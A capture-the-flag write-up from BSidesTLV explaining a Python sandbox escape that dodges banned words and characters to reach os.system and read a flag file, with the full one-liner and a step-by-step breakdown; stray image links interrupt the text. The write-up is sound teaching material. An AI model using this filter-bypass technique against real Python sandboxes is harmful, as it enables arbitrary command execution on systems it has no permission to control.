By Yaakov Cohen and Narcissus


We needed to find a way to read the file whilst not using any of the banned words.

Our solution to this challenge is:

(1).__getattribute__('__init'.__add__('__')).__objclass__.__getattribute__((1).__getattribute__('__init'.__add__('__')).__objclass__,'__subclasses'.__add__('__'))().__getitem__(59).__getattribute__((1).__getattribute__('__init'.__add__('__')).__objclass__.__getattribute__((1).__getattribute__('__init'.__add__('__')).__objclass__,'__subclasses'.__add__('__'))(    ).__getitem__(59),'__init'.__add__('__')).__getattribute__('func'.__add__('_globals')).__getitem__('line'.__add__('cache')).__getattribute__('o'.__add__('s')).__getattribute__('sy'.__add__('stem'))('/bin/ca?    $(find    /    -name    fla?.txt)')

Which returns: BSidesTLV{I_AM_The_Python_Mater}

Let's break this code down and try to explain what's going on.

# ().__add__() instead of +, used both to bypass the blocking of '+' and to help bypass blocking of certain words

# '    ' is a tab not a space.

# '__getattribute__' replaces '.'. You might notice that sometimes we send one parameter and sometimes two. The difference is when working on an object or a type. For a type we need to send an attribute name as well as an object to work on. For an object we only need to send the attribute name, because it already works on the object it was called on.

# '__getitem__' replaces '[]'

# Getting accesto objects
an_object = (1).__getattribute__('__init'.__add__('__')).__objclass__

# Getting all of object's subclasses, which is pretty much everything in python
object_subclasses = an_object.__getattribute__(an_object,'__subclasses'.__add__('__'))

# Getting access to the class 'warnings.catch_warnings'
class_warnings = object_subclasses(    ).__getitem__(59)

# Getting access to the function init()
func_init = class_warnings.__getattribute__(class_warnings,'__init'.__add__('__'))

# Getting access to globals()
func_globals = func_init.__getattribute__('func'.__add__('_globals'))

# Getting access to module 'linecache'
linecache = func_globals.__getitem__('line'.__add__('cache'))

# Getting access to module 'os'
module_os = linecache.__getattribute__('o'.__add__('s'))

# Getting access to built-in function system()
func_os_system = module_os.__getattribute__('sy'.__add__('stem'))# Since we can't write ' ', cat' or 'flag.txt' we need to use tabs and wild cards
get_flag = '/bin/ca?    $(find    /    -name    fla?.txt)'Resulting in:

# Calling system on our flag reading command string

Basically we built our way up into being able to call system commands and then found and printed the flag.